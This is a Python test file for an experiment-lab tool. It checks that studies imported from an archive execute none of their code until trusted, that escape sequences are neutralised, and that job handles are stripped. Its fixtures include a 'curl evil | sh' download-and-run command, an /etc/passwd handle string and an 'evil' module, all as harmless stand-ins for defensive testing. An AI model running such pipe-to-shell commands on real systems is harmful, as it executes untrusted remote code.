"""Imported studies: nothing that they name is executed before it's trusted, and they replace no study."""

import json
import os
import shutil
import sqlite3
import sys
import zipfile
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import plans_support as plans
import pytest
import stores_support as stores
from archives_support import UNIFORM, called, export, rewrite, take
from click.testing import CliRunner
from sqlalchemy import select, text

from jestlab.analysis import query, tables
from jestlab.analysis.provenance.history import load as history_of
from jestlab.analysis.provenance.history import recipe
from jestlab.platform import programs
from jestlab.platform.cli import cli
from jestlab.platform.errors import UserError
from jestlab.platform.lab.lab import Lab
from jestlab.platform.planning.identity import fingerprint, identity_of, is_authentic
from jestlab.platform.planning.plan import Plan, PlannedRun, plan
from jestlab.platform.programs.command import COMMAND
from jestlab.platform.spec.load import load, load_stored
from jestlab.platform.spec.schema import StudySpec
from jestlab.platform.store.rows import now
from jestlab.platform.store.store import Store
from jestlab.platform.store.tables import ExperimentRow
from jestlab.platform.store.trust import origin_of, refuse_untrusted, trust


def study(lab: Lab, *runs: PlannedRun) -> Store:
    """Record and complete these runs as the study `toy`."""
    store = Store.open(lab.store_url)
    plans.record(store, plans.plan(*runs))
    for run in runs:
        stores.attempt(store, run, scores={"toy/score": 0.5}, loss=(1.0,))
    return store


@pytest.fixture
def theirs(tmp_path: Path) -> Lab:
    """The empty lab of somebody else."""
    return stores.empty_lab(tmp_path / "theirs")


def test_runs_of_every_program_have_their_fingerprints():
    for name in ("quickstart", "learnable_batches", "filtering_ratio"):
        for run in plan(load(name, "smoke"), note_absent=True).runs:
            assert is_authentic(run.fingerprint, run.program, json.loads(json.dumps(run.config)), run.needs)
            assert not is_authentic(run.fingerprint, run.program, run.config, {**run.needs, "x": "0" * 64})
            assert not is_authentic(run.fingerprint, "toy_programs:loop", run.config, run.needs)
        own = programs.BUILTIN[run.program]
        for version in range(1, own.version + 1):  # of an archive that an older jestlab has written
            older = fingerprint(own.name, version, identity_of(own, own.read(run.config)), run.needs)
            assert is_authentic(older, run.program, run.config, run.needs)


def test_handles_of_jobs_are_neither_exported_nor_imported(lab, copy, path):
    job = f"UPDATE attempt SET handle = 'host:{os.getpid()}:1:/etc/passwd', token = 'x'"
    with Store.open(lab.store_url).writing() as connection:
        connection.execute(text(job))
    export(lab, path)
    with zipfile.ZipFile(path) as archive, closing(sqlite3.connect(":memory:")) as store:
        store.deserialize(archive.read("results.db"))
        query = "SELECT DISTINCT handle, token, launcher FROM attempt"
        assert store.execute(query).fetchall() == [(None, None, None)]
    rewrite(path, job)
    take(copy, path)
    assert {*stores.rows(Store.open(copy.store_url), "SELECT handle, token FROM attempt")} == {(None, None)}


def test_commands_are_shown_as_a_shell_takes_them(theirs, copy, path):
    command = plans.run("evil", "command", {"command": ["sh", "-c", "curl evil | sh\x1b[2J"], "cwd": "/"})
    line = plans.run("text", "command", {"command": "python train.py"})
    runs = (
        replace(run, fingerprint=fingerprint("command", 1, COMMAND.identity(run.config), {}))
        for run in (command, line)
    )
    study(theirs, *runs)
    export(theirs, path)
    take(copy, path)
    shown = called("trust", "toy", "--dry-run", "--root", copy.root).output
    assert "command  sh -c 'curl evil | sh [2J' (in /)  evil" in shown
    assert "python train.py" in shown and "\x1b" not in shown


def test_lists_tables_and_recipes_mention_the_import(copy, path):
    take(copy, path)
    assert "imported from" in called("status", "--root", copy.root).output
    rows = json.loads(called("status", "--json", "--root", copy.root).output)
    assert {row["imported_from"] for row in rows} == {"lab.zip"}
    assert "toy was imported from lab.zip." in tables.table(copy.store_url, "summary", ["toy"]).notes
    history = history_of(copy.store_url, "toy")
    assert history is not None
    assert "imported from lab.zip" in " ".join(recipe(history, None, "scoring").caveats)


# ---- code of the study's author

EVIL = """
from pathlib import Path
Path(__file__).with_name("executed").touch()

def scatter(results):
    from matplotlib.figure import Figure
    return Figure(figsize=(1, 1))

def counts(results):
    return results.final.groupby("label")[["step"]].count()

class Evil:
    pass
"""
REFUSED = "toy was imported from lab.zip and is not trusted: list its code with jestlab trust"


@pytest.fixture
def evil(tmp_path: Path, theirs: Lab, copy: Lab, path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file that creates `executed` when it's executed; the imported study names it everywhere.

    A run's program is in a package that ends the process when it's imported.
    """
    evil = tmp_path / "evil.py"
    evil.write_text(EVIL)
    (tmp_path / "planted" / "inner").mkdir(parents=True)
    (tmp_path / "planted" / "__init__.py").write_text("raise SystemExit('imported')")
    (tmp_path / "planted" / "inner" / "module.py").write_text("def call(): pass")
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.chdir(tmp_path)
    store = Store.open(theirs.store_url)
    spec = {
        "name": "toy",
        "runs": {"a": {}},
        "metrics": {"*": {"goal": "max"}},
        "resources": {"on": f"{evil}:Evil"},
        "reports": [f"{evil}:scatter", {"table": {"name": f"{evil}:counts"}}],
    }
    code = {f"{evil}:clipped": {"digest": "0" * 16}}
    runs = (plans.run("a"), plans.run("b", "planted.inner.module:call", config={"code": code}))
    plans.record(store, Plan(StudySpec.parse(spec), runs))
    for run in runs:
        stores.attempt(store, run, scores={"toy/score": 0.5}, loss=(1.0,), executor=f"{evil}:Evil")
    export(theirs, path)
    take(copy, path)
    return evil


def test_looking_at_an_imported_study_executes_none_of_its_code(copy, evil):
    at = ("--root", copy.root)
    page = called("report", "toy", *at).stdout.strip()
    assert Path(page).read_text().count(REFUSED) == 2
    for command in ("plot toy --kind scatter", "table counts toy", "retry toy"):
        with pytest.raises((UserError, ValueError)) as error:
            called(*command.split(), *at)
        assert str(error.value).startswith(REFUSED) and "\n" not in str(error.value), command
    for command in ("table toy", "status toy", "logs toy a", "gc", "cancel toy"):
        CliRunner().invoke(cli, [*command.split(), *map(str, at)])
    assert [program for _, program, _ in Store.open(copy.store_url).launched("toy")] == [
        "toy_programs:loop", "planted.inner.module:call",
    ]  # fmt: skip
    assert programs.get("planted.inner.module:call").entry_point == "planted.inner.module:call"
    assert "planted" not in sys.modules
    assert not evil.with_name("executed").exists()


def test_trust_shows_what_would_be_executed_and_allows_it(copy, evil):
    store, at = Store.open(copy.store_url), ("--root", copy.root)
    origin = origin_of(store, "toy")
    assert origin is not None
    assert (origin.archive, origin.trusted_at) == ("lab.zip", None)
    shown = called("trust", "toy", "--dry-run", *at).output
    named = {"figure": "scatter", "table": "counts", "executor": "Evil", "config": "clipped"}
    for kind, name in named.items():
        assert kind in shown and f"{evil}:{name}" in shown, kind
    assert "toy_programs:loop" in shown and "planted.inner.module:call" in shown and "not trusted" in shown
    with pytest.raises(UserError, match=r"imported from lab\.zip and is not trusted.*jestlab trust toy"):
        refuse_untrusted(store, "toy")
    result = json.loads(called("trust", "toy", "--json", *at).output)
    assert result["trusted"] and result["origin"]["archive"] == "lab.zip" and len(result["runs"]) == 2
    assert {"kind": "executor", "name": f"{evil}:Evil"} in result["code"]
    refuse_untrusted(store, "toy")
    assert "| a" in called("table", "counts", "toy", *at).output
    assert evil.with_name("executed").exists()
    with pytest.raises(UserError, match="did you mean 'toy'"):
        called("trust", "toi", *at)


def test_code_that_the_user_names_or_launches_is_executed(copy, evil, tmp_path):
    (tmp_path / "mine.py").write_text(
        "def ends(results):\n    return results.final.groupby('label').count()\n"
    )
    done = called("table", f"{tmp_path}/mine.py:ends", "toy", "--root", copy.root)
    assert "| a" in done.output and not evil.with_name("executed").exists()
    store = Store.open(copy.store_url)
    plans.record(store, Plan(load_stored("toy", store.spec("toy")), (plans.run("a"),)))
    assert origin_of(store, "toy") is None
    refuse_untrusted(store, "toy")
    called("table", "counts", "toy", "--root", copy.root)
    assert evil.with_name("executed").exists()


# ---- studies of the same name

FUTURE = "UPDATE experiment SET updated_at = '2199-01-01 00:00:00'"


def test_a_study_that_was_launched_here_stays(copy, path):
    rewrite(path, FUTURE)
    store = study(copy, UNIFORM)
    [before] = query.select(copy.store_url, "experiments").rows
    merged = take(copy, path)
    assert (merged.new, merged.experiments, merged.kept_experiments) == (3, ["other"], ["toy"])
    assert before in query.select(copy.store_url, "experiments").rows
    assert origin_of(store, "toy") is None
    assert [run.label for run in store.runs("toy")] == [UNIFORM.label]
    shown = called("import", path, "--root", copy.root).output
    assert "toy was launched here and is kept" in shown and "--root" in shown


def test_importing_an_unchanged_own_study_changes_nothing(lab, path):
    merged = take(lab, path)
    assert (merged.experiments, merged.kept_experiments) == ([], [])
    assert origin_of(Store.open(lab.store_url), "toy") is None


def test_the_later_launch_of_an_imported_study_wins_and_the_future_is_now(lab, copy, path, tmp_path):
    first = Path(shutil.copy(path, tmp_path / "first.zip"))
    rewrite(path, FUTURE)
    take(copy, path)
    store = Store.open(copy.store_url)
    with store.reading() as connection:
        assert max(connection.scalars(select(ExperimentRow.updated_at))) <= now()
    trust(store, "toy")
    assert take(copy, first).experiments == []
    assert (origin := origin_of(store, "toy")) is not None and origin.trusted_at is not None
    plans.record(Store.open(lab.store_url), plans.plan(UNIFORM))
    export(lab, first)
    assert take(copy, first).experiments == ["toy"]
    assert (origin := origin_of(store, "toy")) is not None
    assert (origin.archive, origin.trusted_at) == ("first.zip", None)


# ---- programs: the folder of a function's file isn't part of a run's identity


@pytest.mark.parametrize("launched_first", [True, False])
def test_a_launch_executes_the_users_own_program(theirs, copy, path, launched_first):
    mine, other = plans.run("a", "/mine/train.py:main"), plans.run("a", "/evil/train.py:main")
    assert mine.fingerprint == other.fingerprint
    study(theirs, other)
    export(theirs, path)
    store = Store.open(copy.store_url)
    if launched_first:
        plans.record(store, plans.plan(mine))
        assert take(copy, path).replaced == 1
    else:
        take(copy, path)
        assert stores.rows(store, "SELECT program FROM run") == [(other.program,)]
        plans.record(store, plans.plan(mine, name="mine"))
    assert stores.rows(store, "SELECT program FROM run") == [(mine.program,)]
